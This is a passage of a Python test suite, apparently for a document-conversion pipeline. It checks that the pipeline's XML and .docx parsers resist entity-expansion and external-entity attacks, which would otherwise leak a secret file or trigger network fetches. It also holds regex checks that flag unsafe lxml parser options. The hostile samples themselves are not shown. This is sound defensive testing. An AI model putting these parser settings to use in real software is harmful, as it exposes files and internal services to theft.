        vanban.pipeline.docx_numbering,
        vanban.pipeline.convert,
    ):
        for attr, value in vars(module).items():
            if isinstance(value, etree.XMLParser):
                found[f"{module.__name__}.{attr}"] = functools.partial(_parse_with, value)
    return found


def _parse_with(parser: etree.XMLParser, xml: str) -> Any:
    return etree.fromstring(xml, parser)


@pytest.mark.parametrize("parser", list(_parsers()))
def test_the_xml_parsers_resolve_no_entity_and_fetch_nothing(
    parser: str, secret: Path, server: Recorder
) -> None:
    parse = _parsers()[parser]
    ctx = Ctx(url=server.url, secret=secret)
    hits_before = len(server.hits)
    for case, xml in _hostile_xml(ctx).items():
        started = time.monotonic()
        try:
            text = etree.tostring(parse(xml)).decode()
        except etree.XMLSyntaxError:
            text = ""  # refused: as good
        assert time.monotonic() - started < 5, case
        assert MARKER not in text and NET_MARKER not in text, case
        assert len(text) < 100_000, f"{case}: an entity was expanded"
    time.sleep(0.1)
    assert server.hits[hits_before:] == []


@pytest.mark.parametrize(
    "name", [n for n in HOSTILE if n.startswith("docx/")] + ["office/docx_named.doc"]
)
def test_load_docx_returns_none_of_the_secret(
    name: str, tmp_path: Path, secret: Path, server: Recorder
) -> None:
    """`vanban.pipeline.load_docx` in this process, on every hostile .docx."""
    from vanban.pipeline.load_docx import load_docx
    from vanban.schemas import LoadError

    path = tmp_path / Path(name).with_suffix(".docx").name
    path.write_bytes(HOSTILE[name][0](Ctx(url=server.url, secret=secret)))
    hits_before = len(server.hits)
    try:
        raw = load_docx(path)
    except LoadError:
        return
    finally:
        time.sleep(0.05)
        assert server.hits[hits_before:] == []
    dumped = json.dumps([raw.text, raw.metadata, raw.warnings], ensure_ascii=False)
    assert MARKER not in dumped
    assert NET_MARKER not in dumped
    assert len(raw.text) < 100_000


def test_pipeline_parses_xml_only_with_safe_parsers() -> None:
    """Whoever adds XML parsing to `pipeline` gives it a parser like python-docx's:
    `etree.XMLParser(resolve_entities=False)` (and no `no_network=False`, `load_dtd=True`,
    `huge_tree=True`), never lxml's default parser or the standard library's."""
    problems = []
    for path in sorted((ROOT / "pipeline").glob("*.py")):
        source = path.read_text(encoding="utf-8")
        code = re.sub(r'"""(?:.|\n)*?"""|#[^\n]*', "", source)  # docstrings and comments
        for m in re.finditer(r"XMLParser\(([^)]*)\)", code):
            options = m[1].replace(" ", "")
            if "resolve_entities=False" not in options or re.search(
                r"no_network=False|load_dtd=True|huge_tree=True|dtd_validation=True", options
            ):
                problems.append(f"{path.name}: {m[0]}")
        for m in re.finditer(
            r"\betree\.(fromstring|XML|parse|iterparse|fromstringlist)\(([^)]*)\)", code
        ):
            if "," not in m[2]:
                problems.append(f"{path.name}: {m[0]} uses lxml's default parser")
        for m in re.finditer(
            r"^\s*(?:from|import)\s+(xml\.(?:dom|sax|etree)|lxml\.html)\S*", code, re.M
        ):
            problems.append(f"{path.name}: {m[0].strip()}")
    assert problems == []
